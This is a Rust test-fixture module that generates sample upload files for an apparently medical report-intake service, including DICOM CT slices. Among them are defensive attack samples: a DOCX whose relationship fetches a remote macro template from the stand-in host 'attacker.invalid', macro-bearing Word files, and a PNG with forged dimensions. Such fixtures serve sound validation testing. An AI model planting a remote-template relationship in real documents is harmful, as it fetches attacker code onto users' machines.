//! Small, real files of every accepted type, made here so that no test downloads anything
//! (see fixtures/README.md).
#![allow(clippy::cast_possible_truncation)]

use std::io::{Cursor, Write};

use dicom_core::{DataElement, PrimitiveValue, VR};
use dicom_dictionary_std::{tags, uids};
use dicom_object::{FileMetaTableBuilder, InMemDicomObject};
use image::{DynamicImage, ImageFormat, RgbImage};
use zip::write::SimpleFileOptions;

fn image(format: ImageFormat, width: u32, height: u32) -> Vec<u8> {
    let img = RgbImage::from_fn(width, height, |x, y| {
        image::Rgb([(x * 7) as u8, (y * 13) as u8, ((x + y) * 3) as u8])
    });
    let mut out = Cursor::new(Vec::new());
    DynamicImage::ImageRgb8(img)
        .write_to(&mut out, format)
        .unwrap();
    out.into_inner()
}

pub fn jpeg() -> Vec<u8> {
    image(ImageFormat::Jpeg, 64, 48)
}
pub fn png() -> Vec<u8> {
    image(ImageFormat::Png, 64, 48)
}
/// A PNG of the fixture gradient: pixel (x, y) is (7x, 13y, 3(x + y)), each mod 256.
pub fn png_sized(width: u32, height: u32) -> Vec<u8> {
    image(ImageFormat::Png, width, height)
}
pub fn gif() -> Vec<u8> {
    image(ImageFormat::Gif, 32, 32)
}
pub fn bmp() -> Vec<u8> {
    image(ImageFormat::Bmp, 16, 16)
}
pub fn tiff() -> Vec<u8> {
    image(ImageFormat::Tiff, 16, 16)
}

/// A PNG whose header claims `width` × `height` (the pixel data is irrelevant: the header decides).
pub fn png_claiming(width: u32, height: u32) -> Vec<u8> {
    let mut bytes = png();
    // IHDR data starts at byte 16: width, height (big-endian). The IHDR CRC is then wrong, but the
    // check refuses on dimensions first, before any decode.
    bytes[16..20].copy_from_slice(&width.to_be_bytes());
    bytes[20..24].copy_from_slice(&height.to_be_bytes());
    let crc = crc32(&bytes[12..29]);
    bytes[29..33].copy_from_slice(&crc.to_be_bytes());
    bytes
}

fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

pub fn pdf() -> Vec<u8> {
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n".to_vec()
}

/// A PDF of exactly `size` bytes (padded with a comment).
pub fn pdf_of_size(size: usize) -> Vec<u8> {
    let mut bytes = pdf();
    bytes.extend_from_slice(b"%");
    let pad = size - bytes.len() - 1;
    bytes.extend((0..pad).map(|i| b'a' + (i % 26) as u8));
    bytes.push(b'\n');
    assert_eq!(bytes.len(), size);
    bytes
}

pub fn rtf() -> Vec<u8> {
    b"{\\rtf1\\ansi Discharge summary.\\par}".to_vec()
}
pub fn txt() -> Vec<u8> {
    "Blood results: Hb 131 g/L. Créatinine normale.\n"
        .as_bytes()
        .to_vec()
}
pub fn html() -> Vec<u8> {
    b"<!DOCTYPE html><html><body><p>Clinic letter</p></body></html>".to_vec()
}
pub fn eps() -> Vec<u8> {
    b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nnewpath 0 0 moveto 10 10 lineto stroke\n%%EOF\n".to_vec()
}

fn ole(stream: &str, extra_storage: Option<&str>) -> Vec<u8> {
    let mut comp = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    comp.create_stream(stream)
        .unwrap()
        .write_all(b"document body")
        .unwrap();
    if let Some(storage) = extra_storage {
        comp.create_storage(storage).unwrap();
        comp.create_stream(format!("{storage}/VBA"))
            .unwrap()
            .write_all(b"Attribute VB_Name")
            .unwrap();
    }
    comp.flush().unwrap();
    comp.into_inner().into_inner()
}

pub fn doc() -> Vec<u8> {
    ole("/WordDocument", None)
}
pub fn doc_with_macros() -> Vec<u8> {
    ole("/WordDocument", Some("/Macros"))
}
pub fn ppt() -> Vec<u8> {
    ole("/PowerPoint Document", None)
}

pub fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in entries {
        writer
            .start_file(
                *name,
                SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated),
            )
            .unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

const DOCX_TYPES: &str = r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
const DOCX_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;
const DOCX_BODY: &str = r#"<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Report</w:t></w:r></w:p></w:body></w:document>"#;

pub fn docx() -> Vec<u8> {
    zip_of(&[
        ("[Content_Types].xml", DOCX_TYPES.as_bytes()),
        ("_rels/.rels", DOCX_RELS.as_bytes()),
        ("word/document.xml", DOCX_BODY.as_bytes()),
    ])
}

/// A docx whose settings relationship fetches a remote template (template injection).
pub fn docx_with_remote_template() -> Vec<u8> {
    let rels = r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode="External"/></Relationships>"#;
    zip_of(&[
        ("[Content_Types].xml", DOCX_TYPES.as_bytes()),
        ("_rels/.rels", DOCX_RELS.as_bytes()),
        ("word/document.xml", DOCX_BODY.as_bytes()),
        ("word/_rels/settings.xml.rels", rels.as_bytes()),
    ])
}

pub fn docx_with_vba() -> Vec<u8> {
    zip_of(&[
        ("[Content_Types].xml", DOCX_TYPES.as_bytes()),
        ("_rels/.rels", DOCX_RELS.as_bytes()),
        ("word/document.xml", DOCX_BODY.as_bytes()),
        ("word/vbaProject.bin", &doc_with_macros()),
    ])
}

pub fn pptx() -> Vec<u8> {
    let types = r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>"#;
    let rels = r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="ppt/presentation.xml"/></Relationships>"#;
    let body = r#"<?xml version="1.0" encoding="UTF-8"?><p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>"#;
    zip_of(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", rels.as_bytes()),
        ("ppt/presentation.xml", body.as_bytes()),
    ])
}

fn odf(mimetype: &str) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    writer
        .start_file(
            "mimetype",
            SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored),
        )
        .unwrap();
    writer.write_all(mimetype.as_bytes()).unwrap();
    writer
        .start_file("content.xml", SimpleFileOptions::default())
        .unwrap();
    writer
        .write_all(br#"<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>"#)
        .unwrap();
    writer
        .start_file("META-INF/manifest.xml", SimpleFileOptions::default())
        .unwrap();
    writer.write_all(b"<manifest/>").unwrap();
    writer.finish().unwrap().into_inner()
}

pub fn odt() -> Vec<u8> {
    odf("application/vnd.oasis.opendocument.text")
}
pub fn odp() -> Vec<u8> {
    odf("application/vnd.oasis.opendocument.presentation")
}

/// A small CT-like DICOM file (16-bit, 8 × 8) with a Part 10 header.
pub fn dicom(rows: u16, columns: u16) -> Vec<u8> {
    let mut obj = InMemDicomObject::new_empty();
    let sop_instance = "1.2.826.0.1.3680043.10.1234.1";
    obj.put(DataElement::new(
        tags::SOP_CLASS_UID,
        VR::UI,
        PrimitiveValue::from(uids::CT_IMAGE_STORAGE),
    ));
    obj.put(DataElement::new(
        tags::SOP_INSTANCE_UID,
        VR::UI,
        PrimitiveValue::from(sop_instance),
    ));
    obj.put(DataElement::new(
        tags::PATIENT_NAME,
        VR::PN,
        PrimitiveValue::from("Quint^Amelia"),
    ));
    obj.put(DataElement::new(
        tags::MODALITY,
        VR::CS,
        PrimitiveValue::from("CT"),
    ));
    obj.put(DataElement::new(
        tags::ROWS,
        VR::US,
        PrimitiveValue::from(rows),
    ));
    obj.put(DataElement::new(
        tags::COLUMNS,
        VR::US,
        PrimitiveValue::from(columns),
    ));
    obj.put(DataElement::new(
        tags::BITS_ALLOCATED,
        VR::US,
        PrimitiveValue::from(16_u16),
    ));
    obj.put(DataElement::new(
        tags::BITS_STORED,
        VR::US,
        PrimitiveValue::from(12_u16),
    ));
    obj.put(DataElement::new(
        tags::HIGH_BIT,
        VR::US,
        PrimitiveValue::from(11_u16),
    ));
    obj.put(DataElement::new(
        tags::PIXEL_REPRESENTATION,
        VR::US,
        PrimitiveValue::from(0_u16),
    ));
    obj.put(DataElement::new(
        tags::SAMPLES_PER_PIXEL,
        VR::US,
        PrimitiveValue::from(1_u16),
    ));
    obj.put(DataElement::new(
        tags::PHOTOMETRIC_INTERPRETATION,
        VR::CS,
        PrimitiveValue::from("MONOCHROME2"),
    ));
    let pixels: Vec<u16> = (0..u32::from(rows.min(8)) * u32::from(columns.min(8)))
        .map(|i| (i * 37 % 4096) as u16)
        .collect();
    obj.put(DataElement::new(
        tags::PIXEL_DATA,
        VR::OW,
        PrimitiveValue::U16(pixels.into()),
    ));
    let file = obj
        .with_meta(
            FileMetaTableBuilder::new()
                .transfer_syntax(uids::EXPLICIT_VR_LITTLE_ENDIAN)
                .media_storage_sop_class_uid(uids::CT_IMAGE_STORAGE)
                .media_storage_sop_instance_uid(sop_instance),
        )
        .unwrap();
    let mut out = Vec::new();
    file.write_all(&mut out).unwrap();
    out
}

/// A Windows executable's first bytes.
pub fn exe() -> Vec<u8> {
    let mut bytes = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
    bytes.extend_from_slice(&[0u8; 48]);
    bytes.extend_from_slice(b"PE\0\0This program cannot be run in DOS mode.");
    bytes
}

/// Every accepted report type: (file name, bytes).
pub fn every_report_type() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("letter.pdf", pdf()),
        ("summary.rtf", rtf()),
        ("results.txt", txt()),
        ("clinic.html", html()),
        ("diagram.eps", eps()),
        ("referral.doc", doc()),
        ("report.docx", docx()),
        ("notes.odt", odt()),
        ("slides.ppt", ppt()),
        ("slides.pptx", pptx()),
        ("slides.odp", odp()),
        ("photo.jpeg", jpeg()),
        ("scan.tif", tiff()),
        ("sketch.bmp", bmp()),
        (
            "bundle.zip",
            zip_of(&[("a.pdf", &pdf()), ("b.txt", &txt())]),
        ),
    ]
}

/// One slice of a small CT series: signed 16-bit, rescale intercept −1024, 16 × 16, stored value at
/// (x, y) = `base + x * 100` (so Hounsfield units run from `base − 1024` in steps of 100 across a
/// row). All slices share the study and series; `instance` sets the instance number and UID.
pub fn ct_slice(instance: u16, base: i16) -> Vec<u8> {
    let mut obj = InMemDicomObject::new_empty();
    let sop_instance = format!("1.2.826.0.1.3680043.10.5555.3.{instance}");
    let put = |obj: &mut InMemDicomObject, tag, vr, value: PrimitiveValue| {
        obj.put(DataElement::new(tag, vr, value));
    };
    put(
        &mut obj,
        tags::SOP_CLASS_UID,
        VR::UI,
        PrimitiveValue::from(uids::CT_IMAGE_STORAGE),
    );
    put(
        &mut obj,
        tags::SOP_INSTANCE_UID,
        VR::UI,
        PrimitiveValue::from(sop_instance.as_str()),
    );
    put(
        &mut obj,
        tags::STUDY_INSTANCE_UID,
        VR::UI,
        PrimitiveValue::from("1.2.826.0.1.3680043.10.5555.1"),
    );
    put(
        &mut obj,
        tags::SERIES_INSTANCE_UID,
        VR::UI,
        PrimitiveValue::from("1.2.826.0.1.3680043.10.5555.2"),
    );
    put(
        &mut obj,
        tags::PATIENT_NAME,
        VR::PN,
        PrimitiveValue::from("Quint^Amelia"),
    );
    put(&mut obj, tags::MODALITY, VR::CS, PrimitiveValue::from("CT"));
    put(
        &mut obj,
        tags::STUDY_DESCRIPTION,
        VR::LO,
        PrimitiveValue::from("CT THORAX"),
    );
    put(
        &mut obj,
        tags::SERIES_DESCRIPTION,
        VR::LO,
        PrimitiveValue::from("Axial 5mm"),
    );
    put(
        &mut obj,
        tags::SERIES_NUMBER,
        VR::IS,
        PrimitiveValue::from("2"),
    );
    put(
        &mut obj,
        tags::INSTANCE_NUMBER,
        VR::IS,
        PrimitiveValue::from(instance.to_string()),
    );
    put(&mut obj, tags::ROWS, VR::US, PrimitiveValue::from(16_u16));
    put(
        &mut obj,
        tags::COLUMNS,
        VR::US,
        PrimitiveValue::from(16_u16),
    );
    put(
        &mut obj,
        tags::BITS_ALLOCATED,
        VR::US,
        PrimitiveValue::from(16_u16),
    );
    put(
        &mut obj,
        tags::BITS_STORED,
        VR::US,
        PrimitiveValue::from(16_u16),
    );
    put(
        &mut obj,
        tags::HIGH_BIT,
        VR::US,
        PrimitiveValue::from(15_u16),
    );
    put(
        &mut obj,
        tags::PIXEL_REPRESENTATION,
        VR::US,
        PrimitiveValue::from(1_u16),
    );
    put(
        &mut obj,
        tags::SAMPLES_PER_PIXEL,
        VR::US,
        PrimitiveValue::from(1_u16),
    );
    put(
        &mut obj,
        tags::PHOTOMETRIC_INTERPRETATION,
        VR::CS,
        PrimitiveValue::from("MONOCHROME2"),
    );
    put(
        &mut obj,
        tags::RESCALE_INTERCEPT,
        VR::DS,
        PrimitiveValue::from("-1024"),
    );
    put(
        &mut obj,
        tags::RESCALE_SLOPE,
        VR::DS,
        PrimitiveValue::from("1"),
    );
    let pixels: Vec<i16> = (0..16 * 16).map(|i| base + (i % 16) * 100).collect();
    put(
        &mut obj,
        tags::PIXEL_DATA,
        VR::OW,
        PrimitiveValue::I16(pixels.into()),
    );
    let file = obj
        .with_meta(
            FileMetaTableBuilder::new()
                .transfer_syntax(uids::EXPLICIT_VR_LITTLE_ENDIAN)
                .media_storage_sop_class_uid(uids::CT_IMAGE_STORAGE)
                .media_storage_sop_instance_uid(sop_instance.as_str()),
        )
        .unwrap();
    let mut out = Vec::new();
    file.write_all(&mut out).unwrap();
    out
}

/// A JPEG carrying an EXIF block with a GPS position (as phone photos do).
pub fn jpeg_with_gps() -> Vec<u8> {
    let jpeg = jpeg();
    // TIFF header (little endian), IFD0 with one entry: GPSInfo pointer → GPS IFD with GPSLatitudeRef.
    let mut tiff: Vec<u8> = b"II*\0".to_vec();
    tiff.extend_from_slice(&8u32.to_le_bytes());
    tiff.extend_from_slice(&1u16.to_le_bytes());
    tiff.extend_from_slice(&0x8825u16.to_le_bytes()); // GPSInfo
    tiff.extend_from_slice(&4u16.to_le_bytes()); // LONG
    tiff.extend_from_slice(&1u32.to_le_bytes());
    tiff.extend_from_slice(&26u32.to_le_bytes()); // offset of the GPS IFD
    tiff.extend_from_slice(&0u32.to_le_bytes()); // no next IFD
    tiff.extend_from_slice(&1u16.to_le_bytes());
    tiff.extend_from_slice(&1u16.to_le_bytes()); // GPSLatitudeRef
    tiff.extend_from_slice(&2u16.to_le_bytes()); // ASCII
    tiff.extend_from_slice(&2u32.to_le_bytes());
    tiff.extend_from_slice(b"N\0\0\0");
    tiff.extend_from_slice(&0u32.to_le_bytes());
    let mut app1 = b"Exif\0\0".to_vec();
    app1.extend_from_slice(&tiff);
    let mut out = jpeg[..2].to_vec(); // SOI
    out.extend_from_slice(&[0xFF, 0xE1]);
    out.extend_from_slice(&u16::try_from(app1.len() + 2).unwrap().to_be_bytes());
    out.extend_from_slice(&app1);
    out.extend_from_slice(&jpeg[2..]);
    out
}

/// A secondary-capture DICOM whose header is sound but whose JPEG Baseline pixel data is broken:
/// intake (which reads up to the pixel data) accepts it; only decoding for a preview fails.
pub fn dicom_with_broken_jpeg() -> Vec<u8> {
    const SC_IMAGE_STORAGE: &str = "1.2.840.10008.5.1.4.1.1.7";
    const JPEG_BASELINE: &str = "1.2.840.10008.1.2.4.50";
    let sop_instance = "2.25.4242";
    let mut obj = InMemDicomObject::new_empty();
    let put = |obj: &mut InMemDicomObject, tag, vr, value: PrimitiveValue| {
        obj.put(DataElement::new(tag, vr, value));
    };
    put(
        &mut obj,
        tags::SOP_CLASS_UID,
        VR::UI,
        SC_IMAGE_STORAGE.into(),
    );
    put(
        &mut obj,
        tags::SOP_INSTANCE_UID,
        VR::UI,
        sop_instance.into(),
    );
    put(
        &mut obj,
        tags::STUDY_INSTANCE_UID,
        VR::UI,
        "2.25.4243".into(),
    );
    put(
        &mut obj,
        tags::SERIES_INSTANCE_UID,
        VR::UI,
        "2.25.4244".into(),
    );
    put(&mut obj, tags::MODALITY, VR::CS, "OT".into());
    put(&mut obj, tags::SAMPLES_PER_PIXEL, VR::US, 1_u16.into());
    put(
        &mut obj,
        tags::PHOTOMETRIC_INTERPRETATION,
        VR::CS,
        "MONOCHROME2".into(),
    );
    put(&mut obj, tags::ROWS, VR::US, 8_u16.into());
    put(&mut obj, tags::COLUMNS, VR::US, 8_u16.into());
    put(&mut obj, tags::BITS_ALLOCATED, VR::US, 8_u16.into());
    put(&mut obj, tags::BITS_STORED, VR::US, 8_u16.into());
    put(&mut obj, tags::HIGH_BIT, VR::US, 7_u16.into());
    put(&mut obj, tags::PIXEL_REPRESENTATION, VR::US, 0_u16.into());
    // A start-of-image marker and a frame header, then a scan that is no JPEG data at all.
    let mut broken = vec![
        0xFF, 0xD8, 0xFF, 0xC0, 0x00, 0x0B, 0x08, 0x00, 0x08, 0x00, 0x08, 0x01, 0x01, 0x11, 0x00,
        0xFF, 0xDA, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3F, 0x00,
    ];
    broken.extend(std::iter::repeat_n(0x5A, 39));
    obj.put(DataElement::new(
        tags::PIXEL_DATA,
        VR::OB,
        dicom_core::value::PixelFragmentSequence::new(Vec::<u32>::new(), vec![broken]),
    ));
    let file = obj
        .with_meta(
            FileMetaTableBuilder::new()
                .transfer_syntax(JPEG_BASELINE)
                .media_storage_sop_class_uid(SC_IMAGE_STORAGE)
                .media_storage_sop_instance_uid(sop_instance),
        )
        .unwrap();
    let mut out = Vec::new();
    file.write_all(&mut out).unwrap();
    out
}
